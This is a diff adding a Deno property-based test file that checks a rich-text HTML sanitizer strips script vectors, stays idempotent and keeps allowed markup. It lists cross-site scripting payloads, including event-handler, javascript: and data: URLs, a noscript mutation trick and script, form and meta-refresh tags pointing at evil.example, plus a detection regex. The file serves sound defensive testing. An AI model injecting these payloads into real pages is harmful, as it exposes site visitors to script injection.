@@ -1,0 +1,92 @@
+import fc from "fast-check";
+import { assert, assertEquals } from "../../_utils/assert.ts";
+import { characterCount, sanitizeRichText } from "../../../lib/content/rich_text.ts";
+
+/** Fragments an attacker would mix into rich text. */
+const VECTORS = [
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  '<img src=x onerror="alert(1)">',
+  "<svg onload=alert(1)>",
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href=" javascript:alert(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<object data="x"></object>',
+  '<embed src="x">',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<form action="https://evil.example"><input name=x></form>',
+  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+  '<div onmouseover="alert(1)">x</div>',
+  "<style>body{display:none}</style>",
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  "<base href='https://evil.example/'>",
+  "<!--<script>alert(1)</script>-->",
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<p title="a" onclick="b">ok</p>',
+  "<b>bold</b>",
+  '<a href="https://example.com" target="_blank">ok</a>',
+  "<ul><li>one</li></ul>",
+  "plain & text < 5",
+];
+
+const fragment = fc.oneof(
+  fc.constantFrom(...VECTORS),
+  fc.string({ maxLength: 20 }),
+  fc.constantFrom("<", ">", '"', "'", "=", "&", "<p>", "</p>", "<a ", "href=", "on", "javascript:"),
+);
+const richText = fc.array(fragment, { maxLength: 12 }).map((parts) => parts.join(""));
+
+/** Text is escaped in the output, so every "<" there opens a real tag: inspect the tags. */
+function hasScriptVector(html: string): boolean {
+  const tags = html.match(/<[^>]*>?/g) ?? [];
+  return tags.some((tag) =>
+    /^<\s*\/?\s*(script|iframe|object|embed|style|form|input|meta|base|svg|math|img|noscript)\b/i
+      .test(tag) ||
+    /\son[a-z]+\s*=/i.test(tag) ||
+    /\sstyle\s*=/i.test(tag) ||
+    /href\s*=\s*["']?\s*(javascript|vbscript|data)/i.test(tag)
+  );
+}
+
+Deno.test("sanitizeRichText() removes every script vector (property)", () => {
+  fc.assert(
+    fc.property(richText, (input) => {
+      const out = sanitizeRichText(input);
+      assert(!hasScriptVector(out), `${JSON.stringify(input)} → ${JSON.stringify(out)}`);
+    }),
+    { numRuns: 2000 },
+  );
+});
+
+Deno.test("sanitizeRichText() is idempotent (property)", () => {
+  fc.assert(
+    fc.property(richText, (input) => {
+      const once = sanitizeRichText(input);
+      assertEquals(sanitizeRichText(once), once, JSON.stringify(input));
+    }),
+    { numRuns: 2000 },
+  );
+});
+
+Deno.test("sanitizeRichText() keeps the allowed markup", () => {
+  assertEquals(
+    sanitizeRichText("<p><strong>a</strong> <em>b</em></p>"),
+    "<p><strong>a</strong> <em>b</em></p>",
+  );
+  assertEquals(
+    sanitizeRichText('<a href="https://x.example" target="_blank">x</a>'),
+    '<a href="https://x.example" target="_blank" rel="noopener noreferrer">x</a>',
+  );
+  assertEquals(sanitizeRichText('<a href="/contact">c</a>'), '<a href="/contact">c</a>');
+  assertEquals(sanitizeRichText('<a href="mailto:a@b.nl">m</a>'), '<a href="mailto:a@b.nl">m</a>');
+});
+
+Deno.test("characterCount() counts visible characters, not markup", () => {
+  assertEquals(characterCount("<p>ab<strong>c</strong></p>"), 3);
+  assertEquals(characterCount("<p>a &amp; b</p>"), 5);
+  assertEquals(characterCount("<p>😀</p>"), 1);
+});
